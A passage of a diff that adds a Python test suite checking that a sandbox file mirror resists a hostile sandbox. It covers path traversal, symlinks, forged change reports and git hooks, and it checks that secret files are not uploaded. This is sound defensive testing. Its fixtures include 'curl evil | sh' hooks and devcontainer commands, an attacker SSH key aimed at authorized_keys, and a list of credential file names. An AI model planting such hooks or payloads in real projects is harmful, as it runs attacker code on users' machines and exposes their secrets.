@@ -1,0 +1,659 @@
+"""The sandbox is hostile: threats to the user's machine through the workdir mirror, one test each.
+
+The sandbox controls every path, change report and file in its working
+directory. Most tests run in-process: a ``WorkdirMirror`` over a
+``LocalSandbox`` (plain file operations), or a subclass of it that serves what
+the attacker wants and fails on cue, with ``pull()`` fed any change report.
+The end-to-end tests at the bottom run real kernels on both backends.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import errno
+import logging
+import os
+import random
+import stat
+import subprocess
+import threading
+import uuid
+from pathlib import Path
+from typing import Any
+
+import pytest
+from kernels import Kernel
+
+from daytona_kernel.backends.local import LocalSandbox
+from daytona_kernel.config import DaytonaKernelConfig
+from daytona_kernel.errors import DaytonaKernelError
+from daytona_kernel.runtime.pathrules import MirrorRules, scan
+from daytona_kernel.sync import WorkdirMirror
+
+log = logging.getLogger("test_hostile_mirror")
+
+
+class HostileSandbox(LocalSandbox):
+    """A local sandbox whose downloads the test can script: content, per-file errors, or a whole failure."""
+
+    def __init__(self, config: DaytonaKernelConfig) -> None:
+        super().__init__(config, f"hostile-{uuid.uuid4().hex[:8]}")
+        self.served: dict[str, Any] = {}
+        self.downloaded: list[str] = []
+
+    def put(self, rel: str, content: bytes, mode: int | None = None) -> list[int]:
+        """Write a file in the sandbox's working directory; returns its reported [size, mtime]."""
+        path = Path(self.workdir) / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content)
+        if mode is not None:
+            path.chmod(mode)
+        st = path.stat()
+        return [st.st_size, st.st_mtime_ns]
+
+    async def download(self, paths: list[str]) -> dict[str, Any]:
+        self.downloaded += paths
+        out: dict[str, Any] = {}
+        rest = [p for p in paths if p not in self.served]
+        if rest:
+            out.update(await super().download(rest))
+        for p in paths:
+            if p in self.served:
+                value = self.served[p]
+                if isinstance(value, BaseException):
+                    raise value
+                out[p] = value
+        return out
+
+
+@pytest.fixture
+def config() -> DaytonaKernelConfig:
+    cfg = DaytonaKernelConfig()
+    cfg.backend = "local"
+    return cfg
+
+
+@pytest.fixture
+def sandbox(config: DaytonaKernelConfig) -> HostileSandbox:
+    box = HostileSandbox(config)
+    asyncio.run(box.start(lambda text: None))
+    return box
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    path = tmp_path / "project"
+    path.mkdir()
+    return path
+
+
+def mirror_of(folder: Path, sandbox: HostileSandbox, config: DaytonaKernelConfig) -> WorkdirMirror:
+    return WorkdirMirror(str(folder), sandbox, config, folder.parent / "manifest.json", log)
+
+
+def report(changed: dict[str, list[int]], deleted: list[str] | None = None) -> dict[str, Any]:
+    return {"changed": changed, "deleted": deleted or [], "truncated": False}
+
+
+def pull(mirror: WorkdirMirror, changes: Any, **kw: Any) -> Any:
+    return asyncio.run(mirror.pull(changes, **kw))
+
+
+# -- down: containment ---------------------------------------------------------------------------
+
+
+def test_reported_path_with_dotdot_is_not_written_outside_the_folder(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    stat_ = sandbox.put("../escape.txt", b"pwned")
+    mirror = mirror_of(folder, sandbox, config)
+    sandbox.served[mirror.remote_path("sub/../../escape2.txt")] = b"pwned"
+    result = pull(mirror, report({"../escape.txt": stat_, "sub/../../escape2.txt": stat_}))
+    assert not (folder.parent / "escape.txt").exists() and not (folder.parent / "escape2.txt").exists()
+    assert "Refused a path the sandbox reported: ../escape.txt: it goes up with '..'" in result.notices()
+
+
+def test_absolute_reported_path_is_not_written(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    target = tmp_path / "elsewhere" / "authorized_keys"
+    sandbox.served[str(target)] = b"ssh-ed25519 attacker"
+    result = pull(mirror_of(folder, sandbox, config), report({str(target): [20, 1]}))
+    assert not target.exists()
+    assert "it is absolute" in result.notices()
+
+
+def test_reported_path_with_nul_or_control_characters_is_refused_and_the_rest_arrives(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    ok = sandbox.put("fine.txt", b"fine")
+    bad = {"a\x00b.txt": [1, 1], "line\nbreak.txt": [1, 1], "bell\x07.txt": [1, 1]}
+    result = pull(mirror_of(folder, sandbox, config), report({**bad, "fine.txt": ok}))
+    assert (folder / "fine.txt").read_bytes() == b"fine"
+    assert sorted(p.name for p in folder.iterdir()) == ["fine.txt"]
+    assert result.notices().count("it contains a NUL or control character") == 3
+    assert "\n" not in result.notices().replace(".\n", "").replace("character\n", "")  # shown escaped
+
+
+def test_reported_path_into_git_hooks_is_not_written(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / ".git" / "hooks").mkdir(parents=True)
+    hook = sandbox.put(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
+    alias = sandbox.put(".GIT/config", b"[core]\n\tfsmonitor = evil\n")
+    sandbox.put(".git/config", b"[core]\n\tfsmonitor = evil\n")
+    pull(mirror_of(folder, sandbox, config), report({".git/hooks/pre-commit": hook, "./.git//config": alias, ".GIT/config": alias}))
+    assert not (folder / ".git" / "hooks" / "pre-commit").exists()
+    assert not (folder / ".git" / "config").exists() and not (folder / ".GIT").exists()
+
+
+def test_reported_editor_settings_that_could_run_code_here_are_not_written(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    settings = sandbox.put(".vscode/settings.json", b'{"python.defaultInterpreterPath": "./evil.sh"}')
+    container = sandbox.put(".devcontainer/devcontainer.json", b'{"initializeCommand": "curl evil | sh"}')
+    result = pull(mirror_of(folder, sandbox, config), report({".vscode/settings.json": settings, ".devcontainer/devcontainer.json": container}))
+    assert not (folder / ".vscode").exists() and not (folder / ".devcontainer").exists()
+    assert "editor settings could run code here" in result.notices()
+
+
+def test_reported_path_under_an_excluded_folder_is_not_written(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / ".gitignore").write_text("private/\n")
+    config.sync_exclude = ["scratch/"]
+    a = sandbox.put("private/deep/x.txt", b"x")
+    b = sandbox.put("scratch/y.txt", b"y")
+    c = sandbox.put("node_modules/pkg/index.js", b"z")
+    pull(mirror_of(folder, sandbox, config), report({"private/deep/x.txt": a, "scratch/y.txt": b, "node_modules/pkg/index.js": c}))
+    assert not (folder / "private").exists() and not (folder / "scratch").exists() and not (folder / "node_modules").exists()
+
+
+def test_local_symlinked_folder_is_not_written_through(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (folder / "data").symlink_to(outside)
+    reported = sandbox.put("data/bashrc", b"evil")
+    ok = sandbox.put("kept.txt", b"kept")
+    result = pull(mirror_of(folder, sandbox, config), report({"data/bashrc": reported, "kept.txt": ok}))
+    assert list(outside.iterdir()) == []
+    assert (folder / "kept.txt").read_bytes() == b"kept"
+    assert "Not copied from the sandbox: data/bashrc: data here is a symlink" in result.notices()
+
+
+def test_sandbox_symlink_is_neither_followed_nor_created_here(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    secret = tmp_path / "host-secret.txt"
+    secret.write_text("host secret")
+    (Path(sandbox.workdir) / "link").symlink_to(secret)
+    pull(mirror_of(folder, sandbox, config), report({"link": [11, 1]}))
+    assert not (folder / "link").exists() and not (folder / "link").is_symlink()
+
+
+@pytest.mark.timeout(20)
+def test_sandbox_fifo_does_not_hang_the_kernel(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    os.mkfifo(Path(sandbox.workdir) / "pipe")
+    ok = sandbox.put("after.txt", b"after")
+    result = pull(mirror_of(folder, sandbox, config), report({"pipe": [0, 1], "after.txt": ok}))
+    assert (folder / "after.txt").read_bytes() == b"after"
+    assert not (folder / "pipe").exists()
+    assert "pipe" in result.notices()
+
+
+def test_malformed_change_report_is_refused_without_crashing(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    mirror = mirror_of(folder, sandbox, config)
+    ok = sandbox.put("ok.txt", b"ok")
+    for changes in ("files", {"changed": "x"}, {"changed": {"a": "big"}}, {"changed": {"b": [1]}}, {"changed": {}, "deleted": "y"}):
+        assert "Refused" in pull(mirror, changes).notices()
+    assert pull(mirror, {"changed": {"ok.txt": ok, "bad": [True, None]}}).down == ["ok.txt"]
+
+
+def test_upload_magic_refuses_a_path_outside_the_folder(folder: Path, sandbox: HostileSandbox, config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    (tmp_path / "private.txt").write_text("not for the sandbox")
+    (folder / "link").symlink_to(tmp_path / "private.txt")
+    mirror = mirror_of(folder, sandbox, config)
+    for path in ("../private.txt", str(tmp_path / "private.txt"), "link"):
+        with pytest.raises(DaytonaKernelError, match="outside the notebook folder"):
+            asyncio.run(mirror.upload_paths(path, None))
+    assert not any(Path(sandbox.workdir).rglob("private.txt"))
+
+
+def test_download_magic_refuses_a_destination_outside_the_folder(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    sandbox.put("made.txt", b"made")
+    mirror = mirror_of(folder, sandbox, config)
+    for dest in ("../made.txt", "/tmp/made-by-sandbox.txt", ".git/hooks/post-checkout"):
+        with pytest.raises(DaytonaKernelError, match="DEST inside the notebook folder|version-control"):
+            asyncio.run(mirror.download_paths("made.txt", dest))
+    assert not (folder.parent / "made.txt").exists() and not Path("/tmp/made-by-sandbox.txt").exists()
+    assert not (folder / ".git").exists()
+
+
+# -- up: secrets -----------------------------------------------------------------------------------
+
+SECRET_FILES = (
+    ".env",
+    ".env.local",
+    ".envrc",
+    ".git-credentials",
+    ".npmrc",
+    ".pypirc",
+    "credentials.json",
+    "id_rsa",
+    "keys/id_ed25519",
+    "kubeconfig",
+    ".streamlit/secrets.toml",
+    "server.pem",
+    "tls/server.key",
+    "sub/.env",
+    ".ssh/config",
+)
+
+
+def test_secret_files_are_not_uploaded_and_one_notice_says_how_to_include_one(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    for rel in SECRET_FILES + ("analysis.py", ".env.example"):
+        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
+        (folder / rel).write_text("TOKEN=hunter2\n")
+    mirror = mirror_of(folder, sandbox, config)
+    first = asyncio.run(mirror.push())
+    sent = sorted(str(p.relative_to(sandbox.workdir)) for p in Path(sandbox.workdir).rglob("*") if p.is_file())
+    assert sent == [".env.example", "analysis.py"]
+    notice = first.notices()
+    assert notice.count("look like secrets") == 1
+    for rel in SECRET_FILES:
+        assert rel.split("/")[0] in notice
+    assert "sync_include" in notice and "%upload" in notice
+    (folder / "more.txt").write_text("x")
+    assert "secrets" not in asyncio.run(mirror.push()).notices()  # said once
+
+
+def test_secret_file_is_uploaded_when_listed_in_sync_include(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / ".gitignore").write_text(".env\n")
+    (folder / ".env").write_text("A=1\n")
+    (folder / "id_rsa").write_text("key")
+    config.sync_include = [".env"]
+    asyncio.run(mirror_of(folder, sandbox, config).push())
+    assert (Path(sandbox.workdir) / ".env").read_text() == "A=1\n"
+    assert not (Path(sandbox.workdir) / "id_rsa").exists()
+
+
+def test_file_listed_in_a_nested_gitignore_is_not_uploaded(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / "sub" / "deeper").mkdir(parents=True)
+    (folder / "sub" / ".gitignore").write_text("private.txt\n/only-here.txt\n")
+    for rel in ("sub/private.txt", "sub/deeper/private.txt", "sub/only-here.txt", "sub/deeper/only-here.txt", "private.txt"):
+        (folder / rel).write_text(rel)
+    asyncio.run(mirror_of(folder, sandbox, config).push())
+    sent = sorted(str(p.relative_to(sandbox.workdir)) for p in Path(sandbox.workdir).rglob("*") if p.is_file())
+    assert sent == ["private.txt", "sub/.gitignore", "sub/deeper/only-here.txt"]
+
+
+def test_anchored_star_in_gitignore_does_not_cross_folders(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / ".gitignore").write_text("docs/*.tmp\n")
+    (folder / "docs" / "sub").mkdir(parents=True)
+    (folder / "docs" / "a.tmp").write_text("ignored")
+    (folder / "docs" / "sub" / "b.tmp").write_text("kept: git does not ignore it")
+    asyncio.run(mirror_of(folder, sandbox, config).push())
+    assert (Path(sandbox.workdir) / "docs" / "sub" / "b.tmp").exists()
+    assert not (Path(sandbox.workdir) / "docs" / "a.tmp").exists()
+
+
+NAMES = ["a", "b", "ab", "x.txt", "y.log", "build", "Doc", "a b", "#c", "!n", "[x]", "q?", "a.b.c"]
+GLOBS = [
+    "a", "b", "ab", "*", "?", "*.txt", "*.log", "x.*", "**", "[ab]", "[!a]*", "[a-c]", "b*", "*b", "Doc", "build",
+    "\\!n", "\\#c", "a\\ b", "[[:alpha:]]*", "\\[x]", "q\\?", "*.b.*", "[^b]", "a?", "***", "[]a]", "[a-]",
+]  # fmt: skip
+
+
+def _random_case(rng: random.Random) -> tuple[list[str], dict[str, list[str]]]:
+    files = set()
+    for _ in range(rng.randint(10, 30)):
+        depth = rng.choice([1, 1, 2, 2, 3])
+        files.add("/".join(rng.choice(NAMES) for _ in range(depth)))
+    dirs = {f.rsplit("/", 1)[0] for f in files if "/" in f}
+    files = {f for f in files if f not in dirs and not any(d.startswith(f + "/") for d in dirs)}
+    gitignores: dict[str, list[str]] = {}
+    for base in [""] + rng.sample(sorted(dirs), min(len(dirs), rng.randint(0, 2))):
+        lines = []
+        for _ in range(rng.randint(1, 6)):
+            pattern = "/".join(rng.choice(GLOBS) for _ in range(rng.choice([1, 1, 1, 2, 2, 3])))
+            if rng.random() < 0.2:
+                pattern = "/" + pattern
+            if rng.random() < 0.25:
+                pattern += "/"
+            if rng.random() < 0.25:
+                pattern = "!" + pattern
+            if rng.random() < 0.05:
+                pattern += "  "
+            if rng.random() < 0.05:
+                lines.append("# a comment")
+            lines.append(pattern)
+        gitignores[base] = lines
+    return sorted(files), gitignores
+
+
+@pytest.mark.parametrize("seed", range(60))
+def test_gitignore_rules_match_git_check_ignore(tmp_path: Path, seed: int) -> None:
+    """Our .gitignore semantics against git itself, over generated patterns, trees and nested files."""
+    rng = random.Random(seed)
+    files, gitignores = _random_case(rng)
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    subprocess.run(["git", "init", "-q", str(repo)], check=True)
+    for rel in files:
+        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
+        (repo / rel).write_text("x")
+    for base, lines in gitignores.items():
+        (repo / base / ".gitignore").write_text("\n".join(lines) + "\n")
+    paths = set(files) | {f"{base}/.gitignore" if base else ".gitignore" for base in gitignores}
+    for rel in list(paths):
+        parts = rel.split("/")
+        paths |= {"/".join(parts[:i]) for i in range(1, len(parts))}
+    paths_list = sorted(paths)
+    out = subprocess.run(
+        ["git", "-C", str(repo), "check-ignore", "--no-index", "--stdin", "-z"],
+        input="\0".join(paths_list) + "\0",
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert out.returncode in (0, 1), out.stderr
+    git_ignored = {p for p in out.stdout.split("\0") if p}
+    rules = MirrorRules(str(repo), defaults=(), secrets=())
+    ours = {p for p in paths_list if rules.check(p, (repo / p).is_dir())}
+    context = "\n".join(f"{base or '.'}/.gitignore: {lines!r}" for base, lines in gitignores.items())
+    assert ours == git_ignored, f"only ours: {sorted(ours - git_ignored)}; only git: {sorted(git_ignored - ours)}\n{context}"
+    scanned, _ = scan(str(repo), MirrorRules(str(repo), defaults=(), secrets=()))
+    expected = {p for p in paths_list if (repo / p).is_file() and p not in git_ignored}
+    assert set(scanned) == expected, context
+
+
+def test_folder_holding_the_home_folder_is_not_mirrored_automatically(tmp_path: Path, sandbox: HostileSandbox, config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    home = tmp_path / "home" / "me"
+    home.mkdir(parents=True)
+    monkeypatch.setenv("HOME", str(home))
+    for root in (tmp_path / "home", tmp_path, home):
+        mirror = WorkdirMirror(str(root), sandbox, config, tmp_path / "m.json", log)
+        assert mirror.mode == "off" and "home folder" in mirror.notice, root
+    project = tmp_path / "work"
+    project.mkdir()
+    assert WorkdirMirror(str(project), sandbox, config, tmp_path / "m.json", log).mode == "both"
+
+
+# -- down: nothing is lost -------------------------------------------------------------------------
+
+
+def _runtime_watch(workdir: Path) -> Any:
+    """The runtime's change-report methods over a real folder, without starting a runtime."""
+    from types import SimpleNamespace
+
+    from daytona_kernel.runtime import runtime as rt
+
+    rules = MirrorRules(str(workdir), secrets=())
+    watch = SimpleNamespace(workdir=str(workdir), _watch_rules=rules, _mode_notice=None)
+    watch._watch, _ = scan(str(workdir), rules)
+    watch.changes = lambda: rt.Runtime._file_changes(watch)
+    watch.note = lambda note: rt.Runtime._note_synced(watch, note)
+    return watch
+
+
+def test_a_change_is_reported_again_until_the_kernel_acknowledges_it(tmp_path: Path) -> None:
+    (tmp_path / "old.txt").write_text("old")
+    watch = _runtime_watch(tmp_path)
+    (tmp_path / "new.txt").write_text("new")
+    first = watch.changes()
+    assert list(first["changed"]) == ["new.txt"]
+    assert watch.changes()["changed"] == first["changed"]  # the download may have failed: not forgotten
+    watch.note({"acked": first["changed"]})
+    assert watch.changes() is None
+
+
+def test_an_unreadable_sandbox_folder_is_not_reported_as_deleted(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    (tmp_path / "locked").mkdir()
+    (tmp_path / "locked" / "data.csv").write_text("x")
+    watch = _runtime_watch(tmp_path)
+    real_scandir = os.scandir
+    locked = str(tmp_path / "locked")
+
+    def scandir(path: Any = ".") -> Any:
+        if str(path) == locked:
+            raise PermissionError(errno.EACCES, "Permission denied", locked)
+        return real_scandir(path)
+
+    monkeypatch.setattr(os, "scandir", scandir)
+    assert watch.changes() is None
+
+
+def test_an_unreadable_local_folder_is_never_planned_as_deleted(folder: Path, sandbox: HostileSandbox, config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    config.sync_deletes = True
+    (folder / "locked").mkdir()
+    (folder / "locked" / "data.csv").write_text("x")
+    mirror = mirror_of(folder, sandbox, config)
+    asyncio.run(mirror.push())
+    real_scandir = os.scandir
+    locked = str(folder / "locked")
+
+    def scandir(path: Any = ".") -> Any:
+        if str(path) == locked:
+            raise PermissionError(errno.EACCES, "Permission denied", locked)
+        return real_scandir(path)
+
+    monkeypatch.setattr(os, "scandir", scandir)
+    asyncio.run(mirror.push())
+    assert (Path(sandbox.workdir) / "locked" / "data.csv").exists()
+
+
+def test_a_254_byte_name_is_not_made_too_long_by_the_temporary_name(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    long_name = "n" * 250 + ".csv"
+    changes = report({long_name: sandbox.put(long_name, b"long"), "short.txt": sandbox.put("short.txt", b"short")})
+    result = pull(mirror_of(folder, sandbox, config), changes)
+    assert (folder / long_name).read_bytes() == b"long" and (folder / "short.txt").read_bytes() == b"short"
+    assert sorted(result.down) == sorted([long_name, "short.txt"])
+
+
+def test_a_file_replaced_by_a_folder_in_the_sandbox_costs_only_that_file(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    reported = sandbox.put("out", b"file first")
+    (Path(sandbox.workdir) / "out").unlink()
+    (Path(sandbox.workdir) / "out").mkdir()
+    changes = report({"out": reported, "z.txt": sandbox.put("z.txt", b"z")})
+    result = pull(mirror_of(folder, sandbox, config), changes)
+    assert (folder / "z.txt").read_bytes() == b"z" and not (folder / "out").exists()
+    assert "Not copied from the sandbox: out:" in result.notices()
+
+
+def test_a_local_folder_in_place_of_a_reported_file_is_kept(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / "results").mkdir()
+    (folder / "results" / "mine.txt").write_text("mine")
+    changes = report({"results": sandbox.put("results", b"a file"), "z.txt": sandbox.put("z.txt", b"z")})
+    result = pull(mirror_of(folder, sandbox, config), changes)
+    assert (folder / "results" / "mine.txt").read_text() == "mine" and (folder / "z.txt").exists()
+    assert "results: a folder is in its place here" in result.notices()
+
+
+def test_a_vanished_file_costs_only_that_file(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    reported = sandbox.put("gone.txt", b"soon gone")
+    (Path(sandbox.workdir) / "gone.txt").unlink()
+    result = pull(mirror_of(folder, sandbox, config), report({"gone.txt": reported, "z.txt": sandbox.put("z.txt", b"z")}))
+    assert (folder / "z.txt").exists() and result.down == ["z.txt"]
+    assert "Not copied from the sandbox: gone.txt" in result.notices()
+
+
+def test_a_download_error_for_one_file_is_named_and_retried_after_the_next_cell(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    from daytona_kernel.backends.base import FileError
+
+    mirror = mirror_of(folder, sandbox, config)
+    changes = report({"a.txt": sandbox.put("a.txt", b"a"), "b.txt": sandbox.put("b.txt", b"b")})
+    sandbox.served[mirror.remote_path("a.txt")] = FileError("503 Service Unavailable", retry=True)
+    result = pull(mirror, changes)
+    assert result.down == ["b.txt"] and not (folder / "a.txt").exists()
+    assert "Not copied from the sandbox: a.txt: 503 Service Unavailable; it is tried again" in result.notices()
+    assert list(mirror.handover()["acked"]) == ["b.txt"]  # a.txt stays in the runtime's report
+    del sandbox.served[mirror.remote_path("a.txt")]
+    assert pull(mirror, report({"a.txt": changes["changed"]["a.txt"]})).down == ["a.txt"]
+
+
+def test_a_whole_failed_download_loses_nothing(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    from daytona_kernel.errors import BackendError
+
+    mirror = mirror_of(folder, sandbox, config)
+    changes = report({"a.txt": sandbox.put("a.txt", b"a")})
+    sandbox.served[mirror.remote_path("a.txt")] = BackendError("Could not download files: 502")
+    assert "a.txt: Could not download files: 502; it is tried again" in pull(mirror, changes).notices()
+    assert mirror.handover()["acked"] == {}
+    del sandbox.served[mirror.remote_path("a.txt")]
+    assert pull(mirror, changes).down == ["a.txt"]
+
+
+def test_a_full_disk_names_the_file_and_leaves_no_partial_file(folder: Path, sandbox: HostileSandbox, config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    real_write = os.write
+
+    def write(fd: int, data: Any) -> int:
+        if bytes(data[:4]) == b"HUGE":
+            real_write(fd, bytes(data[:2]))  # part of it went to disk
+            raise OSError(errno.ENOSPC, "No space left on device")
+        return real_write(fd, data)
+
+    monkeypatch.setattr(os, "write", write)
+    changes = report({"huge.bin": sandbox.put("huge.bin", b"HUGE" * 1000), "small.txt": sandbox.put("small.txt", b"small")})
+    mirror = mirror_of(folder, sandbox, config)
+    result = pull(mirror, changes)
+    assert sorted(p.name for p in folder.iterdir()) == ["small.txt"]  # no partial or temporary file
+    assert "Not copied from the sandbox: huge.bin: No space left on device" in result.notices()
+    assert "huge.bin" not in mirror.handover()["acked"]
+
+
+def test_a_failure_that_would_repeat_is_not_retried_until_sync(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / "out").mkdir()
+    changes = report({"out": sandbox.put("out", b"x")})
+    mirror = mirror_of(folder, sandbox, config)
+    assert "out" in pull(mirror, changes).notices()
+    sandbox.downloaded.clear()
+    assert pull(mirror, changes).notices() == "" and sandbox.downloaded == []
+    (folder / "out").rmdir()
+    assert pull(mirror, changes, retry_failed=True).down == ["out"]
+
+
+# -- modes and private files -----------------------------------------------------------------------
+
+
+def test_modes_come_down_with_the_report(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    private = sandbox.put("token.txt", b"t", 0o600) + [0o600]
+    script = sandbox.put("run.sh", b"#!/bin/sh\n", 0o755) + [0o755]
+    pull(mirror_of(folder, sandbox, config), report({"token.txt": private, "run.sh": script}))
+    assert stat.S_IMODE((folder / "token.txt").stat().st_mode) == 0o600
+    assert (folder / "run.sh").stat().st_mode & 0o111 == 0o111
+
+
+def test_modes_of_uploaded_files_ride_on_the_next_call(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / "token.txt").write_text("t")
+    (folder / "token.txt").chmod(0o600)
+    (folder / "run.sh").write_text("#!/bin/sh\n")
+    (folder / "run.sh").chmod(0o755)
+    mirror = mirror_of(folder, sandbox, config)
+    asyncio.run(mirror.push())
+    assert mirror.handover()["up"] == {"run.sh": 0o755, "token.txt": 0o600}
+    (folder / "run.sh").chmod(0o700)  # a mode change alone is a change
+    assert mirror.plan_up().todo == ["run.sh"]
+
+
+def test_the_sync_manifest_is_private(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / "a.txt").write_text("a")
+    manifest = folder.parent / "manifests" / "m.json"
+    mirror = WorkdirMirror(str(folder), sandbox, config, manifest, log)
+    asyncio.run(mirror.push())
+    assert stat.S_IMODE(manifest.stat().st_mode) == 0o600
+    assert stat.S_IMODE(manifest.parent.stat().st_mode) == 0o700
+
+
+# -- issue 11: blocking work stays off the event loop ---------------------------------------------
+
+
+def test_scanning_hashing_and_reading_run_off_the_event_loop(folder: Path, sandbox: HostileSandbox, config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    from daytona_kernel import sync
+
+    for i in range(5):
+        (folder / f"f{i}.txt").write_text(str(i))
+    mirror = mirror_of(folder, sandbox, config)
+    asyncio.run(mirror.push())
+    threads: set[str] = set()
+    real_scan, real_hash = sync.scan, sync._hash
+    monkeypatch.setattr(sync, "scan", lambda *a, **k: (threads.add(threading.current_thread().name), real_scan(*a, **k))[1])
+    monkeypatch.setattr(sync, "_hash", lambda p: (threads.add(threading.current_thread().name), real_hash(p))[1])
+    for i in range(5):
+        (folder / f"f{i}.txt").write_text(str(i + 10))  # same size, new mtime: hashed
+    asyncio.run(mirror.push())
+    assert threads and threading.main_thread().name not in threads
+
+
+# -- end to end, on both backends -------------------------------------------------------------------
+
+FORGE = (
+    "rt = display.__self__\n"
+    "open('../escape.txt', 'w').write('pwned')\n"
+    "os.makedirs('.git/hooks', exist_ok=True)\n"
+    "open('.git/hooks/pre-commit', 'w').write('evil')\n"
+    "rt._file_changes = lambda: {'changed': {'../escape.txt': [5, 1], '.git/hooks/pre-commit': [4, 1], "
+    "'ok.txt': [2, 1]}, 'deleted': [], 'truncated': False}\n"
+    "open('ok.txt', 'w').write('ok')\n"
+)
+
+
+def test_a_forged_change_report_cannot_write_outside_the_folder(kernel_name: str, tmp_path: Path) -> None:
+    folder = tmp_path / "nb"
+    (folder / ".git" / "hooks").mkdir(parents=True)
+    with Kernel(kernel_name, cwd=str(folder)) as k:
+        run = k.execute("import os\n" + FORGE)
+        assert run.status == "ok"
+        assert "Refused a path the sandbox reported: ../escape.txt" in run.text("stderr")
+    assert not (tmp_path / "escape.txt").exists()
+    assert not (folder / ".git" / "hooks" / "pre-commit").exists()
+    assert (folder / "ok.txt").read_text() == "ok"
+
+
+def test_secret_files_stay_on_this_machine(kernel_name: str, tmp_path: Path) -> None:
+    for rel in (".env", "id_rsa", "certs/server.pem", "notes.txt"):
+        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / rel).write_text("SECRET=1\n")
+    with Kernel(kernel_name, cwd=str(tmp_path)) as k:
+        run = k.execute("import os\nsorted(os.path.exists(p) for p in ('.env', 'id_rsa', 'certs/server.pem')), os.path.exists('notes.txt')")
+        assert run.of_type("execute_result")[0]["data"]["text/plain"] == "([False, False, False], True)"
+        assert "look like secrets: .env, certs/server.pem, id_rsa" in run.text("stderr")
+        assert "look like secrets" not in k.execute("pass").text("stderr")
+
+
+def test_file_modes_survive_both_directions(kernel_name: str, tmp_path: Path) -> None:
+    (tmp_path / "token.txt").write_text("t")
+    (tmp_path / "token.txt").chmod(0o600)
+    (tmp_path / "tool.sh").write_text("#!/bin/sh\necho hi\n")
+    (tmp_path / "tool.sh").chmod(0o755)
+    with Kernel(kernel_name, cwd=str(tmp_path)) as k:
+        run = k.execute("import os\n[oct(os.stat(p).st_mode & 0o777) for p in ('token.txt', 'tool.sh')]")
+        assert run.of_type("execute_result")[0]["data"]["text/plain"] == "['0o600', '0o755']"
+        k.execute(
+            "open('made.sh', 'w').write('#!/bin/sh\\n'); os.chmod('made.sh', 0o750)\n"
+            "open('key.txt', 'w').write('k'); os.chmod('key.txt', 0o600)"
+        )
+    assert stat.S_IMODE((tmp_path / "made.sh").stat().st_mode) == 0o750
+    assert stat.S_IMODE((tmp_path / "key.txt").stat().st_mode) == 0o600
+
+
+def test_a_file_that_could_not_be_written_comes_back_with_sync(kernel_name: str, tmp_path: Path) -> None:
+    (tmp_path / "result.csv").mkdir()  # in the way: the download cannot be written
+    with Kernel(kernel_name, cwd=str(tmp_path)) as k:
+        run = k.execute("open('result.csv', 'w').write('1,2\\n'); open('other.csv', 'w').write('3\\n')")
+        assert "Not copied from the sandbox: result.csv: a folder is in its place here" in run.text("stderr")
+        assert (tmp_path / "other.csv").read_text() == "3\n"
+        assert "result.csv" not in k.execute("pass").text("stderr")  # named once, not retried on every cell
+        (tmp_path / "result.csv").rmdir()
+        assert "1 down" in k.execute("%sync").text()
+    assert (tmp_path / "result.csv").read_text() == "1,2\n"
+
+
+def test_the_local_backend_keeps_its_copies_private(tmp_path: Path) -> None:
+    from daytona_kernel.backends.local import local_root
+
+    with Kernel("daytona-local", cwd=str(tmp_path)) as k:
+        k.execute("pass")
+        for path in (local_root(), local_root() / "volumes", local_root() / "sandboxes"):
+            assert stat.S_IMODE(path.stat().st_mode) == 0o700, path
+
+
+def test_the_local_backend_removes_its_input_inboxes_at_shutdown(tmp_path: Path) -> None:
+    import glob
+    import tempfile
+
+    from daytona_kernel.backends.local import local_root
+
